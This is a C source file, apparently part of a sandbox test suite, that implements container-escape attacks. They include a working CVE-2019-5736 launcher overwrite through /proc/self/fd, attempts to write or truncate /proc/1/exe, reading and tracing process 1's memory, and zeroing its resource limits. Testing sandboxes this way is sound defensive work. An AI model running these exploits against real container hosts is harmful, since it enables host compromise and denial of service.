// Attacks on the launcher's own program and on process 1.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>

#include "attack.h"

static const char kPayload[] = "#!/bin/sh\necho OWNED\n";

// The end of CVE-2019-5736: a descriptor of the launcher's file is reopened for writing as soon as nobody
// runs it.
static void overwrite_descriptor(int argc, char** argv) {
  if (argc < 1) broken("usage: overwrite-descriptor FD");
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%s", argv[0]);
  for (int attempt = 0; attempt < 500; ++attempt) {
    int fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (fd >= 0) {
      if (write(fd, kPayload, sizeof kPayload - 1) < 0) refused("write to %s", path);
      won("the launcher was overwritten");
    }
    if (errno != ETXTBSY) refused("open %s for writing", path);
    usleep(10000);
  }
  refused("the launcher never ended");
}

typedef struct {
  unsigned long long device, inode;
} FileId;

static bool holds_launcher(pid_t pid, void* data) {
  const FileId* wanted = data;
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return false;
  struct stat status;
  if (fstat(fd, &status) == 0 && status.st_dev == wanted->device && status.st_ino == wanted->inode)
    won("%s is the launcher's file on the host", path);
  close(fd);
  return false;
}

// The first half of CVE-2019-5736: /proc/PID/exe of any visible process is the launcher's file.
static void find_launcher(int argc, char** argv) {
  if (argc < 2) broken("usage: find-launcher DEVICE INODE");
  FileId wanted = {strtoull(argv[0], NULL, 10), strtoull(argv[1], NULL, 10)};
  // A process that joins the sandbox later is seen too: look for a while.
  for (int round = 0; round < 50; ++round) {
    each_process(holds_launcher, &wanted);
    usleep(10000);
  }
  refused("no process runs the launcher's file");
}

// Process 1's own file: whoever may write it owns the next sandbox that is started from it.
static void write_init(int argc, char** argv) {
  (void)argc, (void)argv;
  int fd = open("/proc/1/exe", O_WRONLY | O_CLOEXEC);
  if (fd >= 0) won("/proc/1/exe was opened for writing");
  int error = errno;
  int held = open("/proc/1/exe", O_RDONLY | O_CLOEXEC);
  if (held >= 0) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    if (open(path, O_RDWR | O_CLOEXEC) >= 0) won("/proc/1/exe was reopened for writing");
    if (ftruncate(held, 0) == 0) won("/proc/1/exe was truncated");
  }
  errno = error;
  refused("open /proc/1/exe for writing");
}

static bool opens(const char* path, int flags) {
  int fd = open(path, flags | O_CLOEXEC);
  if (fd < 0) return false;
  close(fd);
  return true;
}

// Memory, environment, links and descriptors of process 1 through procfs. The numbers of its descriptors are
// no secret: what lies behind them is.
static void read_init(int argc, char** argv) {
  (void)argc, (void)argv;
  char text[256];
  if (opens("/proc/1/mem", O_RDWR)) won("/proc/1/mem can be written");
  if (opens("/proc/1/mem", O_RDONLY)) won("/proc/1/mem can be read");
  int fd = open("/proc/1/environ", O_RDONLY | O_CLOEXEC);
  if (fd >= 0 && read(fd, text, sizeof text) > 0) won("/proc/1/environ can be read");
  fd = open("/proc/1/maps", O_RDONLY | O_CLOEXEC);
  if (fd >= 0 && read(fd, text, sizeof text) > 0) won("/proc/1/maps can be read");
  for (int number = 0; number < 256; ++number) {
    snprintf(text, sizeof text, "/proc/1/fd/%d", number);
    if (opens(text, O_PATH | O_NOFOLLOW) && opens(text, O_PATH)) won("%s can be opened", text);
  }
  if (opens("/proc/1/exe", O_PATH)) won("/proc/1/exe can be opened");
  if (opens("/proc/1/cwd", O_PATH)) won("/proc/1/cwd can be entered");
  if (opens("/proc/1/root", O_PATH)) won("/proc/1/root can be entered");
  refused("nothing of process 1 can be opened");
}

static void trace_init(int argc, char** argv) {
  (void)argc, (void)argv;
  if (ptrace(PTRACE_SEIZE, 1, NULL, NULL) == 0) won("process 1 is traced (PTRACE_SEIZE)");
  if (ptrace(PTRACE_ATTACH, 1, NULL, NULL) == 0) won("process 1 is traced (PTRACE_ATTACH)");
  char byte = 0;
  struct iovec local = {&byte, 1}, remote = {(void*)0x400000, 1};
  ssize_t got = process_vm_readv(1, &local, 1, &remote, 1, 0);
  // EFAULT means that the kernel would have copied, had there been memory.
  if (got >= 0 || errno == EFAULT) won("process_vm_readv reaches process 1");
  refused("process 1 cannot be traced");
}

// Every limit of process 1 set to nothing, with orphans left for it to reap.
static void limit_init(int argc, char** argv) {
  (void)argc, (void)argv;
  static const struct rlimit kNothing = {0, 0};
  int lowered = 0;
  for (int resource = 0; resource < RLIM_NLIMITS; ++resource)
    lowered += prlimit(1, (enum __rlimit_resource)resource, &kNothing, NULL) == 0;
  if (lowered == 0) refused("prlimit(1)");
  for (int i = 0; i < 8; ++i) {
    if (fork() != 0) continue;
    fork();
    _exit(0);
  }
  won("%d limits of process 1 are nothing", lowered);
}

const Attack kLauncherAttacks[] = {
    {"overwrite-descriptor", overwrite_descriptor},
    {"find-launcher", find_launcher},
    {"write-init", write_init},
    {"read-init", read_init},
    {"trace-init", trace_init},
    {"limit-init", limit_init},
    {NULL, NULL},
};
